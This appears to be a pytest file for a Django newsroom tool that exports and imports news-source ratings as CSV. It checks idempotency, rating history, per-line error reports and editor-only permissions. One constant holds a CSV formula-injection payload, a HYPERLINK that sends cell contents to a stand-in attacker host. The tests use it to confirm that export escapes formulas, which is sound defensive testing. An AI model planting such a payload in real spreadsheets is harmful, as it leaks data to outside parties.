"""Sharing sources between desks: export_sources → import_sources, idempotent, ratings
appended to the history, hostile cells escaped on export and restored on import."""

import csv
import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from articles.models import Source
from tests.factories import SourceDomainFactory, SourceFactory, SourceRatingFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _export(tmp_path) -> str:
    path = tmp_path / "sources.csv"
    call_command("export_sources", output=str(path))
    return path.read_text(encoding="utf-8")


def _import(path, username: str) -> str:
    out = io.StringIO()
    call_command("import_sources", str(path), "--as", username, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_export_escapes_formulas_and_a_round_trip_restores_everything(tmp_path, editor):
    source = SourceFactory(name="+Plus News", country="UA", language="uk")
    SourceDomainFactory(source=source, domain="plus.example")
    SourceDomainFactory(source=source, domain="plus-news.example")
    SourceRatingFactory(source=source, grade="C", rationale=HOSTILE)
    SourceFactory(name="@unrated", country="", language="")

    text = _export(tmp_path)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == "'+Plus News"
    assert rows[0]["rationale"] == "'" + HOSTILE
    assert rows[0]["domains"] == "plus-news.example plus.example"
    assert rows[1] == {
        "name": "'@unrated",
        "domains": "",
        "country": "",
        "language": "",
        "grade": "",
        "rationale": "",
    }

    # Another desk imports the file: the same sources, domains and current ratings.
    Source.objects.all().delete()
    (tmp_path / "in.csv").write_text(text, encoding="utf-8")
    summary = _import(tmp_path / "in.csv", editor.username)
    assert summary.startswith("created 2, updated 0, new ratings 1")
    imported = Source.objects.with_current_grade().get(name="+Plus News")
    assert (imported.country, imported.language, imported.current_grade) == ("UA", "uk", "C")
    assert imported.ratings.get().rationale == HOSTILE
    assert set(imported.domains.values_list("domain", flat=True)) == {
        "plus.example",
        "plus-news.example",
    }
    assert _export(tmp_path) == text


def test_importing_twice_changes_nothing_and_a_new_grade_is_appended(tmp_path, editor):
    path = tmp_path / "in.csv"
    path.write_text(
        "name,domains,country,language,grade,rationale\n"
        "Harbour Times,harbour.example,GB,en,B,Corrects errors openly.\n",
        encoding="utf-8",
    )
    _import(path, editor.username)
    assert _import(path, editor.username).startswith("created 0, updated 0, new ratings 0")
    source = Source.objects.get(name="Harbour Times")
    assert source.ratings.count() == 1

    path.write_text(
        "name,domains,country,language,grade,rationale\n"
        "harbour times,,,,D,Two fabricated interviews.\n",
        encoding="utf-8",
    )
    assert "new ratings 1" in _import(path, editor.username)
    assert list(source.ratings.values_list("grade", flat=True)) == ["D", "B"]


def test_bad_rows_are_reported_by_line_and_the_others_land(tmp_path, editor, capsys):
    SourceDomainFactory(source=SourceFactory(name="Owner"), domain="taken.example")
    SourceFactory(name="Rival")
    path = tmp_path / "in.csv"
    path.write_text(
        "name,domains,country,language,grade,rationale\n"
        "Good,good.example,,,A,Solid.\n"
        ",,,,,\n"
        "Rival,taken.example,,,,\n"
        "Graded,,,,Z,Bad grade.\n"
        "NoWhy,,,,B,\n",
        encoding="utf-8",
    )
    err = io.StringIO()
    with pytest.raises(SystemExit) as exited:
        call_command(
            "import_sources", str(path), "--as", editor.username, stdout=io.StringIO(), stderr=err
        )
    assert exited.value.code == 1
    problems = err.getvalue()
    assert f"{path}, line 3: the name is empty" in problems
    assert "line 4 (Rival): the domain taken.example belongs to another source" in problems
    assert "line 5 (Graded): Choose a grade from A to F." in problems
    assert "line 6 (NoWhy): Say why this grade" in problems
    assert Source.objects.filter(name="Good").exists()
    assert not Source.objects.filter(name__in=["Graded", "NoWhy"]).exists()
    assert not Source.objects.get(name="Rival").domains.exists()


def test_a_source_known_here_by_another_name_is_found_by_its_domain(tmp_path, editor):
    bbc = SourceFactory(name="BBC News")
    SourceDomainFactory(source=bbc, domain="bbc.co.uk")
    path = tmp_path / "in.csv"
    path.write_text("name,domains,grade,rationale\nBBC,www.bbc.co.uk,B,Public broadcaster.\n")
    assert _import(path, editor.username).startswith("created 0, updated 1, new ratings 1")
    assert Source.objects.count() == 1
    assert list(bbc.aliases.values_list("name", flat=True)) == ["BBC"]
    assert bbc.ratings.get().grade == "B"


def test_ratings_need_an_editor_and_a_known_user(tmp_path, analyst):
    path = tmp_path / "in.csv"
    path.write_text("name,grade,rationale\nX,A,Fine.\n", encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(SystemExit):
        call_command("import_sources", str(path), "--as", analyst.username, stderr=err)
    assert "Only Editors rate sources." in err.getvalue()
    assert not Source.objects.filter(name="X").exists()
    with pytest.raises(CommandError, match="no user named"):
        call_command("import_sources", str(path), "--as", "nobody")
